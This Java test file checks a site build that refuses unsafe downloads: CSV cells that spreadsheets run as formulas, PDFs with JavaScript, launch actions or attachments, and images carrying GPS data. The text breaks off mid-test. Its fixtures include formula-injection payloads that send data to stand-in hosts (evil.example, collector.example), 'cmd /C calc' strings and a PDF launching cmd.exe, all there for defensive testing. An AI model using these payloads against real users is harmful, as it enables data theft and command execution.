package org.explainers.content;

import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.explainers.fixtures.Fixture;
import org.explainers.pipeline.Build;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Consumer;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Downloads are published as they are, so they are read first (an attacker's trial: a CSV of
 * formulas and a PDF that ran JavaScript on opening were published unchanged): a CSV's cells
 * start with no formula, with whatever separator a spreadsheet reads them; a PDF runs nothing,
 * attaches nothing and submits nothing, wherever in its objects (compressed ones too) that is.
 */
class DownloadsTest {

    private static final String DIR = "content/articles/a/";

    private static Fixture linking(Path tmp, String... files) {
        Fixture f = ContentChecksTest.validTree(tmp);
        StringBuilder links = new StringBuilder();
        for (String file : files) {
            links.append("[").append(file).append("](").append(file).append(") ");
        }
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", links + "\n"));
        return f;
    }

    private static List<String> failing(Fixture f) {
        Build.Result r = f.build();
        assertFalse(r.ok(), "the build must fail:\n" + f.log());
        assertFalse(Files.exists(f.site()), "nothing was published");
        return Fixture.messages(r);
    }

    private static void has(List<String> messages, String expected) {
        assertTrue(messages.stream().anyMatch(m -> m.startsWith(expected)), "expected " + expected + "\ngot:\n  " + String.join("\n  ", messages));
    }

    @Test
    void aTableOfDataIsPublishedAsItIs(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp, "data.csv");
        String csv = "\uFEFFcountry,change,phone,note\nUkraine,-12.5,+44 20 7946 0000,\"said \"\"no\"\", then yes\"\nRussia,+3%,,-\n";
        f.write(DIR + "data.csv", csv);
        assertTrue(f.build().ok(), f.log());
        assertEquals(csv, Files.readString(f.site().resolve("articles/a/data.csv"), StandardCharsets.UTF_8));
    }

    @Test
    void aCellThatAGivenSpreadsheetRunsAsAFormulaIsRefusedAtItsLine(@TempDir Path tmp) {
        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv", "sep.csv", "lenient.csv", "sylk.csv", "cr.csv");
        f.write(DIR + "data.csv", "name,link\nok,1\nleak,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"x\"\")\"\ncalc,-2+3+cmd|' /C calc'!A0\n"
                + "sum,@SUM(1+1)*cmd|' /C calc'!A0\nspace, =1+1\n");
        f.write(DIR + "semi.csv", "name;value\nx;=1+1\n+7,x\n");
        f.writeBytes(DIR + "latin.csv", "name\ncaf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
        f.write(DIR + "broken.csv", "a,b\n\"unclosed,1\n");
        f.write(DIR + "sep.csv", "sep=|\nname|value\nx|=HYPERLINK(\"http://evil.example/?leak\")\n");
        f.write(DIR + "lenient.csv", "x;\"a\"b,c\ny;=HYPERLINK(\"http://evil.example/\")\n");
        f.write(DIR + "sylk.csv", "ID;P\nC;Y1;X1;K0;EWEBSERVICE(\"https://collector.example/c\")\nE\n");
        // A lone CR ends a row for a spreadsheet (an attacker's trial: read with commas the formula is inside a quoted cell, and
        // the lines read with semicolons broke at LF only, so it never began a cell).
        f.write(DIR + "cr.csv", "name,value\r\na\t\"e\"f;\"b,\"c\r=cmd|' /C calc'!A0;d\"\r\n");
        List<String> m = failing(f);
        has(m, DIR + "cr.csv:3: the cell `=cmd|' /C calc'!A0`" + " (read with semicolons");
        has(m, DIR + "data.csv:3: the cell `=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")` starts with `=`: a spreadsheet opening the"
                + " download runs it as a formula");
        has(m, DIR + "data.csv:4: the cell `-2+3+cmd|' /C calc'!A0` starts with `-`");
        has(m, DIR + "data.csv:5: the cell `@SUM(1+1)*cmd|' /C calc'!A0` starts with `@`");
        has(m, DIR + "data.csv:6: the cell `=1+1` starts with `=`");
        // Read with semicolons, the cell is told as such: read with commas, the editor sees other cells (a new user's trial: `+7,x`).
        String semicolons = " (read with semicolons between cells, as a spreadsheet set to a language whose decimal mark is a comma reads the file)";
        has(m, DIR + "semi.csv:2: the cell `=1+1`" + semicolons + " starts with `=`");
        has(m, DIR + "semi.csv:3: the cell `+7,x`" + semicolons + " starts with `+`: a spreadsheet opening the download runs it as a formula"
                + " (it may fetch an address or start a program) (write the value itself (a number without its `+`);");
        has(m, DIR + "latin.csv: is not UTF-8 text (save the table as \"CSV UTF-8\"");
        has(m, DIR + "broken.csv: is not a well-formed CSV table");
        has(m, DIR + "sep.csv:1: the first line `sep=|` chooses the separator for Excel");
        has(m, DIR + "sylk.csv:1: the file begins with `ID`, which makes Excel read it as a SYLK file");
        has(m, DIR + "lenient.csv:2: the cell `=HYPERLINK(\"http://evil.example/\")`" + semicolons + " starts with `=`");
        // A sign before a run of digits longer than any number a spreadsheet keeps is not read as one
        // (an attacker's trial: BigDecimal read a million digits in 26 s, each of three separators).
        f.write(DIR + "data.csv", "a,b\n1,+" + "1".repeat(1_000_000) + "\n2,-12.5\n");
        List<String> told = Fixture.messages(f.check());
        assertTrue(told.stream().anyMatch(l -> l.startsWith(DIR + "data.csv:2: the cell `+111") && l.contains("starts with `+`")), String.join("\n", told));
        assertTrue(told.stream().noneMatch(l -> l.startsWith(DIR + "data.csv:3:")), String.join("\n", told));
    }

    @Test
    void aPlainPdfIsPublishedAsItIs(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp, "sources.pdf");
        byte[] pdf = pdf(d -> link(d, uri("https://example.org/source")));
        f.writeBytes(DIR + "sources.pdf", pdf);
        assertTrue(f.build().ok(), f.log());
        assertArrayEquals(pdf, Files.readAllBytes(f.site().resolve("articles/a/sources.pdf")));
        assertTrue(f.build().ok(), "again, from the cache of files that passed: " + f.log());
    }

    /**
     * A PDF holding a photo with its GPS position (as img2pdf and pdflatex keep a JPEG whole), or
     * XMP metadata with one, is refused as the photo alone is (an attacker's trial).
     */
    @Test
    void aPdfThatSaysWhereAPhotoWasTakenIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp, "photo.pdf", "meta.pdf", "plain.pdf");
        byte[] located = withSegment(jpeg(), 0xE1, exif(gpsTiff()));
        f.writeBytes(DIR + "photo.pdf", pdf(d -> {
            try {
                org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject image = org.apache.pdfbox.pdmodel.graphics.image.JPEGFactory
                        .createFromByteArray(d, located);
                try (PDPageContentStream c = new PDPageContentStream(d, d.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                    c.drawImage(image, 72, 400);
                }
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }));
        String xmp = "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description"
                + " rdf:about='' xmlns:exif='http://ns.adobe.com/exif/1.0/' exif:GPSLatitude='51,30.06N'/></rdf:RDF></x:xmpmeta>";
        f.writeBytes(DIR + "meta.pdf", pdf(d -> {
            try {
                org.apache.pdfbox.pdmodel.common.PDMetadata metadata = new org.apache.pdfbox.pdmodel.common.PDMetadata(d);
                metadata.importXMPMetadata(xmp.getBytes(StandardCharsets.UTF_8));
                d.getDocumentCatalog().setMetadata(metadata);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }));
        f.writeBytes(DIR + "plain.pdf", pdf(d -> { }));
        List<String> m = failing(f);
        has(m, DIR + "photo.pdf: the PDF carries the place where a photo was taken (GPS data in its EXIF, in a photo on its pages), which readers"
                + " could read from the file (remove the location from the photos");
        has(m, DIR + "meta.pdf: the PDF carries the place where it was made (a GPS position or a place in its XMP metadata)");
        assertEquals(2, m.size(), String.join("\n", m));
    }

    /**
     * Reading a build's PDFs is bounded in all, not only file by file: the files left unread when
     * the time runs out fail the build and are not remembered as passed; the next build reads them.
     */
    @Test
    void pdfsLeftUnreadWhenTheBuildsTimeForThemRunsOutAreNotPublished(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp, "a.pdf", "b.pdf");
        f.writeBytes(DIR + "a.pdf", pdf(d -> link(d, uri("https://example.org/a"))));
        f.writeBytes(DIR + "b.pdf", pdf(d -> link(d, uri("https://example.org/b"))));
        for (int i = 0; i < 2; i++) {
            Build.Result r = f.buildWith("explainers.pdfTotalSeconds", "0");
            assertFalse(r.ok(), f.log());
            assertEquals(List.of(DIR + "a.pdf: was not read, nor 1 more PDF files after it: reading this build's PDFs took more than 0 s in all"
                    + " (build again: the PDFs read so far are remembered in target/cache/downloads.bin, so the next build reads on from here)"),
                    Fixture.messages(r), "told once, at the first file not read; and again, since none was remembered as passed");
            assertFalse(Files.exists(f.site().resolve("articles/a/b.pdf")));
        }
        assertTrue(f.buildWith("explainers.stamp.settle.ms", "0").ok(), f.log()); // files just written are taken on their stamps
        assertTrue(Files.isRegularFile(f.site().resolve("articles/a/b.pdf")));
        assertTrue(f.buildWith("explainers.pdfTotalSeconds", "0", "explainers.stamp.settle.ms", "0").ok(), "read once, not again: " + f.log());
    }

    @Test
    void aPdfThatRunsAttachesOrLaunchesIsRefusedWhereverItSaysSo(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp, "open.pdf", "launch.pdf", "attached.pdf", "locked.pdf", "fake.pdf", "js-link.pdf");
        // Saved with compressed object streams (PDFBox 3's default): the action is not in the file's plain bytes.
        f.writeBytes(DIR + "open.pdf", pdf(d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))));
        PDActionLaunch launch = new PDActionLaunch();
        launch.getCOSObject().setString(COSName.F, "cmd.exe");
        f.writeBytes(DIR + "launch.pdf", pdf(d -> link(d, launch)));
        f.writeBytes(DIR + "attached.pdf", pdf(d -> {
            try {
                PDComplexFileSpecification spec = new PDComplexFileSpecification();
                spec.setFile("payload.exe");
                spec.setEmbeddedFile(new PDEmbeddedFile(d, new java.io.ByteArrayInputStream(new byte[]{'M', 'Z'})));
                PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(java.util.Map.of("payload.exe", spec));
                PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                d.getDocumentCatalog().setNames(names);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }));
        f.writeBytes(DIR + "locked.pdf", pdf(d -> {
            try {
                StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", "secret", new AccessPermission());
                policy.setEncryptionKeyLength(128);
                d.protect(policy);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }));
        f.write(DIR + "fake.pdf", "<html><script>alert(1)</script></html>\n");
        f.writeBytes(DIR + "js-link.pdf", pdf(d -> link(d, uri("javascript:alert(document.domain)"))));
        List<String> m = failing(f);
        has(m, DIR + "open.pdf: the PDF holds JavaScript, which a reader's PDF viewer would do on the site's address (print the document to a new PDF");
        has(m, DIR + "open.pdf: the PDF runs an action when it is opened (/OpenAction)");
        has(m, DIR + "launch.pdf: the PDF has a Launch action");
        has(m, DIR + "attached.pdf: the PDF has files attached");
        has(m, DIR + "locked.pdf: is protected by a password");
        has(m, DIR + "fake.pdf: is not a PDF file (or it is damaged)");
        has(m, DIR + "js-link.pdf: the PDF has a link to `javascript:alert(document.domain)`, which is not a web or mail address");
    }

    /**
     * A photo's original is published as it is, with its EXIF data: a GPS position there tells
     * readers where the photographer, or a source, stood. Refused; the same photo without it passes.
     */
    @Test
    void aPhotoThatSaysWhereItWasTakenIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![The harbour at dawn](harbour.jpg)\n"));
        byte[] jpeg = jpeg();
        byte[] located = withSegment(jpeg, 0xE1, exif(gpsTiff()));
        f.writeBytes(DIR + "harbour.jpg", located);
        has(failing(f), DIR + "harbour.jpg: the photo carries the place where it was taken (GPS data in its EXIF), which readers could"
                + " read from the file (export it again without its location");
        f.writeBytes(DIR + "harbour.jpg", jpeg);
        assertTrue(f.build().ok(), f.log());
        // The plain photo's fingerprint is now known to say no place (target/cache/places.bin); the located one is read again.
        f.writeBytes(DIR + "harbour.jpg", located);
        Build.Result again = f.build();
        assertFalse(again.ok(), f.log());
        has(Fixture.messages(again), DIR + "harbour.jpg: the photo carries the place where it was taken");
        // A phone without a fix writes a GPS block with its version and a void status (V) only: no place (an images trial).
        f.writeBytes(DIR + "harbour.jpg", withSegment(jpeg, 0xE1, exif(voidGpsTiff())));
        assertTrue(f.build().ok(), f.log());
    }

    /**
     * An image is read as the format its name says, which its first bytes must say too (an
     * attacker's trial: a TIFF with GPS data named .png was read as TIFF and published unread;
     * four bytes of WBMP before a ZIP passed as an image); a strip of 40 million pixels on one
     * side is refused here, not by a feed's check; and the images of assets/ are held to the same
     * rules (a JPEG with its GPS data was published from assets/images/).
     */
    @Test
    void anImageIsReadAsItsNameSaysAndAssetsAreCheckedToo(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![1](one.png)\n\n![2](two.png)\n\n![3](three.gif)\n\n![4](four.png)\n\n![5](five.png)\n"));
        ByteArrayOutputStream tiff = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(8, 8, java.awt.image.BufferedImage.TYPE_INT_RGB), "tiff", tiff);
        f.writeBytes(DIR + "one.png", tiff.toByteArray());
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        zip.write(new byte[]{0, 0, 8, 8, -1, -1, -1, -1, -1, -1, -1, -1});
        try (java.util.zip.ZipOutputStream z = new java.util.zip.ZipOutputStream(zip)) {
            z.putNextEntry(new java.util.zip.ZipEntry("invoice.exe"));
            z.write("MZ".getBytes(StandardCharsets.ISO_8859_1));
        }
        f.writeBytes(DIR + "two.png", zip.toByteArray());
        f.writeBytes(DIR + "three.gif", pngWithXmp(""));
        ByteArrayOutputStream strip = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(60_000, 1, java.awt.image.BufferedImage.TYPE_BYTE_BINARY), "png", strip);
        f.writeBytes(DIR + "four.png", strip.toByteArray());
        ByteArrayOutputStream rule = new ByteArrayOutputStream(); // a "rule" that pushes the rest of the page down (a third attacker's trial)
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(20, 1000, java.awt.image.BufferedImage.TYPE_BYTE_GRAY), "png", rule);
        f.writeBytes(DIR + "five.png", rule.toByteArray());
        f.writeBytes("assets/images/staff.jpg", withSegment(jpeg(), 0xE1, exif(gpsTiff())));
        List<String> m = failing(f);
        has(m, DIR + "one.png: is not a PNG image (or it is damaged) (export the image again as PNG or JPEG)");
        has(m, DIR + "two.png: is not a PNG image (or it is damaged)");
        has(m, DIR + "three.gif: is not a GIF image: its bytes are a PNG image's (rename it to three.png, and its links too)");
        has(m, DIR + "four.png: the image is 60000 × 1 pixels; at most 50000 pixels a side are allowed");
        has(m, "assets/images/staff.jpg: the photo carries the place where it was taken (GPS data in its EXIF)");
        has(m, DIR + "five.png: the image is 20 × 1000 pixels: its height is more than 25 times its width (a page shows it across the text's"
                + " width, 35,200 pixels tall there) (crop it, or split it into several images)");
        assertEquals(6, m.size(), String.join("\n", m));
    }

    /** A PNG of hundreds of text chunks is refused before they are read (a third attacker's trial: 275,941 XMP chunks held a build for 55 s). */
    @Test
    void aPngOfManyChunksIsRefused(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![A grey chart](chunks.png)\n"));
        byte[] png = pngWithXmp("");
        for (int i = 0; i < 300; i++) {
            png = withChunk(png, "tEXt", ("Comment\0" + i).getBytes(StandardCharsets.ISO_8859_1));
        }
        f.writeBytes(DIR + "chunks.png", png);
        has(failing(f), DIR + "chunks.png: the PNG is written in 304 chunks, 303 of them besides its image data; at most 20,000 and 256 are allowed"
                + " (export it again (as any image program saves a PNG))");
    }

    /**
     * Animations (an attacker's trial): an animated PNG is refused (its first picture, of which the
     * phones' copies were made, was not in its animation); a GIF's frames must lie inside its own
     * size (a 1 × 1 first frame on a 65,535-pixel screen passed the pixel count) and be at most
     * 300; an animated GIF within them is published with its size and without smaller copies.
     */
    @Test
    void animationsAreBoundedAndTheirPicturesAreTheirOwn(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![1](one.png)\n\n![2](two.gif)\n\n![3](three.gif)\n"));
        f.writeBytes(DIR + "one.png", withChunk(pngWithXmp(""), "acTL", new byte[]{0, 0, 0, 1, 0, 0, 0, 0}));
        byte[] wide = gif(1, 1200, 600);
        wide[6] = 1; // the screen 1 × 1, its frame 1200 × 600
        wide[7] = 0;
        wide[8] = 1;
        wide[9] = 0;
        f.writeBytes(DIR + "two.gif", wide);
        f.writeBytes(DIR + "three.gif", gif(301, 2, 2));
        List<String> m = failing(f);
        has(m, DIR + "one.png: is an animated PNG, which the site does not publish (export a still PNG, or the animation as a GIF)");
        has(m, DIR + "two.gif: frame 1 of the GIF (1200 × 600 at 0,0) reaches outside the image's own size, 1 × 1");
        has(m, DIR + "three.gif: the GIF has more than 300 frames");
        assertEquals(3, m.size(), String.join("\n", m));

        f.writeBytes(DIR + "one.png", pngWithXmp(""));
        f.writeBytes(DIR + "two.gif", gif(3, 1200, 600));
        f.writeBytes(DIR + "three.gif", gif(1, 1200, 600));
        byte[] framed = gif(1, 600, 600);
        framed[6] = (byte) (1200 & 0xFF); // a screen of 1200 × 600, its one frame the left half: copies would stretch the frame
        framed[7] = (byte) (1200 >> 8);
        f.write(HostileInputTest.ONE, f.read(HostileInputTest.ONE) + "\n![5](five.gif)\n");
        f.writeBytes(DIR + "five.gif", framed);
        assertTrue(f.build().ok(), f.log());
        assertEquals("", org.jsoup.Jsoup.parse(f.page("articles/a/01-one.html")).selectFirst("img[src=five.gif]").attr("srcset"),
                "a frame that does not fill its screen has no copies");
        org.jsoup.nodes.Document page = org.jsoup.Jsoup.parse(f.page("articles/a/01-one.html"));
        org.jsoup.nodes.Element animated = page.selectFirst("img[src=two.gif]");
        assertEquals("1200", animated.attr("width"));
        assertEquals("", animated.attr("srcset"), "an animation has no smaller copies, which would hold its first frame only");
        assertFalse(Files.exists(f.site().resolve("articles/a/two.480w.gif")));
        assertTrue(page.selectFirst("img[src=three.gif]").attr("srcset").contains("three.480w.gif"), "a still GIF has its copies");
    }

    /**
     * Decoding is bounded in time (an attacker's trial: 8 KB of a JPEG claiming 6000 × 6000 pixels
     * took 15 s, and a few hundred would fill the bake's limit): a JPEG cut short is refused in the
     * check, and the copies a build makes stop at its time for them, told at the image; the next
     * build goes on.
     */
    @Test
    void decodingImagesIsBoundedInTime(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![1](one.jpg)\n\n![2](two.png)\n"));
        ByteArrayOutputStream big = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(1200, 800, java.awt.image.BufferedImage.TYPE_INT_RGB), "jpeg", big);
        f.writeBytes(DIR + "one.jpg", java.util.Arrays.copyOf(big.toByteArray(), big.size() - 200));
        f.writeBytes(DIR + "two.png", pngWithXmp(""));
        has(failing(f), DIR + "one.jpg: the JPEG is cut short: its data stops before the image's end (export the image again)");

        f.writeBytes(DIR + "one.jpg", big.toByteArray());
        Build.Result r = f.buildWith("explainers.imageSeconds", "0");
        assertFalse(r.ok(), f.log());
        assertEquals(List.of(DIR + "one.jpg: its smaller copies were not made: making this build's new copies took more than 0 s (build again: the"
                + " copies made so far are kept in target/cache/images, so the next build goes on from there)"), Fixture.messages(r));
        assertTrue(f.build().ok(), f.log());
        assertTrue(Files.isRegularFile(f.site().resolve("articles/a/one.480w.jpg")));
    }

    /**
     * A phone's portrait photo, stored on its side with EXIF orientation 6, is shown upright by
     * browsers: the page gives it portrait sides and its copies are upright (an images trial: the
     * page said landscape, and the copies phones load lay on their side).
     */
    @Test
    void aPhotoTurnedByItsOrientationIsShownAndCopiedUpright(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![Upright](portrait.jpg)\n"));
        java.awt.image.BufferedImage stored = new java.awt.image.BufferedImage(1200, 800, java.awt.image.BufferedImage.TYPE_INT_RGB);
        java.awt.Graphics2D g = stored.createGraphics();
        g.setColor(java.awt.Color.RED);
        g.fillRect(0, 0, 600, 800); // the stored left half: the top, once turned a quarter clockwise
        g.setColor(java.awt.Color.BLUE);
        g.fillRect(600, 0, 600, 800);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(stored, "jpeg", out);
        f.writeBytes(DIR + "portrait.jpg", withSegment(out.toByteArray(), 0xE1, exif(orientation(6))));
        assertTrue(f.build().ok(), f.log());
        org.jsoup.nodes.Element img = org.jsoup.Jsoup.parse(f.page("articles/a/01-one.html")).selectFirst("img[src=portrait.jpg]");
        assertEquals("800", img.attr("width"));
        assertEquals("1200", img.attr("height"));
        java.awt.image.BufferedImage copy = javax.imageio.ImageIO.read(f.site().resolve("articles/a/portrait.480w.jpg").toFile());
        assertEquals(480, copy.getWidth());
        assertEquals(720, copy.getHeight());
        java.awt.Color top = new java.awt.Color(copy.getRGB(240, 100)), bottom = new java.awt.Color(copy.getRGB(240, 620));
        assertTrue(top.getRed() > 200 && top.getBlue() < 60 && bottom.getBlue() > 200 && bottom.getRed() < 60, top + " over " + bottom);
    }

    /**
     * A JPEG whose EXIF segment comes before its JFIF one, as some editing tools save photos, is
     * read and published with its copies, as browsers show it (an editor's trial: "JFIF APP0 must
     * be first marker after SOI", ImageIO's words, refused it).
     */
    @Test
    void aPhotoWithItsExifBeforeItsJfifSegmentIsPublished(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![A photo](photo.jpg)\n"));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(1200, 800, java.awt.image.BufferedImage.TYPE_INT_RGB), "jpeg", out);
        byte[] jpeg = out.toByteArray();
        byte[] app1 = exif(orientation(1));
        ByteArrayOutputStream swapped = new ByteArrayOutputStream();
        swapped.write(jpeg, 0, 2); // SOI, then the EXIF segment, then the JFIF one and the rest
        swapped.write(0xFF);
        swapped.write(0xE1);
        swapped.write((2 + app1.length) >> 8);
        swapped.write(2 + app1.length);
        swapped.write(app1, 0, app1.length);
        swapped.write(jpeg, 2, jpeg.length - 2);
        f.writeBytes(DIR + "photo.jpg", swapped.toByteArray());
        assertTrue(f.build().ok(), f.log());
        assertTrue(org.jsoup.Jsoup.parse(f.page("articles/a/01-one.html")).selectFirst("img[src=photo.jpg]").attr("srcset").contains("photo.480w.jpg"), f.log());
    }

    /** A PNG in a colour space other than sRGB (its iCCP, which the JDK's reader ignores) has no copies, which would hold its numbers as sRGB's (an images trial). */
    @Test
    void aPngInAnotherColourSpaceHasNoCopies(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![Wide](wide.png)\n\n![Plain](plain.png)\n"));
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(1200, 800, java.awt.image.BufferedImage.TYPE_INT_RGB), "png", png);
        byte[] profile = java.awt.color.ICC_Profile.getInstance(java.awt.color.ColorSpace.CS_PYCC).getData(); // not sRGB, as its description says
        f.writeBytes(DIR + "wide.png", withChunk(png.toByteArray(), "iCCP", concat("Linear\0\0".getBytes(StandardCharsets.ISO_8859_1), deflate(profile))));
        f.writeBytes(DIR + "plain.png", png.toByteArray());
        assertTrue(f.build().ok(), f.log());
        org.jsoup.nodes.Document page = org.jsoup.Jsoup.parse(f.page("articles/a/01-one.html"));
        assertEquals("", page.selectFirst("img[src=wide.png]").attr("srcset"));
        assertTrue(page.selectFirst("img[src=plain.png]").attr("srcset").contains("plain.480w.png"));
    }

    /**
     * A CMYK JPEG without a colour profile has no copies, whose colours would be guessed (an
     * images trial: faded copies); browsers show the original. Its frame header says 4 components.
     */
    @Test
    void aCmykJpegWithoutAProfileHasNoCopies(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![Print](print.jpg)\n"));
        java.awt.image.WritableRaster cmyk = java.awt.image.Raster.createInterleavedRaster(java.awt.image.DataBuffer.TYPE_BYTE, 1200, 800, 4, null);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        javax.imageio.ImageWriter writer = javax.imageio.ImageIO.getImageWritersByFormatName("jpeg").next();
        try (javax.imageio.stream.ImageOutputStream ios = javax.imageio.ImageIO.createImageOutputStream(out)) {
            writer.setOutput(ios);
            writer.write(null, new javax.imageio.IIOImage(cmyk, null, null), null);
        } finally {
            writer.dispose();
        }
        assertEquals(4, Images.jpegLook(out.toByteArray()).components());
        f.writeBytes(DIR + "print.jpg", out.toByteArray());
        assertTrue(f.build().ok(), f.log());
        org.jsoup.nodes.Element img = org.jsoup.Jsoup.parse(f.page("articles/a/01-one.html")).selectFirst("img[src=print.jpg]");
        assertEquals("1200", img.attr("width"));
        assertEquals("", img.attr("srcset"));
    }

    /** A GIF's XMP before its image is read (an images trial: one with only its creator was refused): no place passes, a GPS position is refused. */
    @Test
    void aGifsXmpBeforeItsImageIsRead(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![Credited](credited.gif)\n\n![Placed](placed.gif)\n"));
        String rdf = "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description"
                + " rdf:about='' xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:exif='http://ns.adobe.com/exif/1.0/' ";
        f.writeBytes(DIR + "credited.gif", gifWithXmp(rdf + "dc:rights='Agency'/></rdf:RDF></x:xmpmeta>"));
        f.writeBytes(DIR + "placed.gif", gifWithXmp(rdf + "exif:GPSLatitude='51,30.06N'/></rdf:RDF></x:xmpmeta>"));
        List<String> m = failing(f);
        has(m, DIR + "placed.gif: the photo carries the place where it was taken (a GPS position or a place in its XMP data)");
        assertEquals(1, m.size(), String.join("\n", m));
    }

    /** A one-frame GIF with an XMP application extension, in sub-blocks, before its image. */
    private static byte[] gifWithXmp(String packet) throws IOException {
        byte[] g = gif(1, 8, 8);
        int flags = g[10] & 0xFF;
        int at = 13 + ((flags & 0x80) != 0 ? 3 * (1 << ((flags & 7) + 1)) : 0);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(g, 0, at);
        out.write(new byte[]{0x21, (byte) 0xFF, 11});
        out.write("XMP DataXMP".getBytes(StandardCharsets.ISO_8859_1));
        byte[] data = packet.getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < data.length; i += 255) {
            int n = Math.min(255, data.length - i);
            out.write(n);
            out.write(data, i, n);
        }
        out.write(0);
        out.write(g, at, g.length - at);
        return out.toByteArray();
    }

    /**
     * ImageMagick's copies of a photo's metadata in a PNG (`convert credited.jpg out.png`: "Raw
     * profile type" texts in hexadecimal) are read as the photo's own (an images trial: a credited
     * photo so converted was refused unread): a byline passes; GPS data and an IPTC city do not.
     */
    @Test
    void imageMagicksRawProfilesAreRead(@TempDir Path tmp) throws IOException {
        Fixture f = linking(tmp);
        f.write(HostileInputTest.ONE, ContentChecksTest.section(1, "", "![1](credited.png)\n\n![2](placed.png)\n\n![3](city.png)\n\n![4](texts.png)\n\n"
                + "![5](made.png)\n"));
        byte[] png = pngWithXmp("");
        String packet = "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description"
                + " rdf:about='' xmlns:dc='http://purl.org/dc/elements/1.1/' dc:rights='Agency'/></rdf:RDF></x:xmpmeta>";
        f.writeBytes(DIR + "credited.png", withChunk(png, "tEXt", raw("xmp", packet.getBytes(StandardCharsets.UTF_8))));
        f.writeBytes(DIR + "placed.png", withChunk(png, "tEXt", raw("exif", exif(gpsTiff()))));
        byte[] city = "Kyiv".getBytes(StandardCharsets.ISO_8859_1);
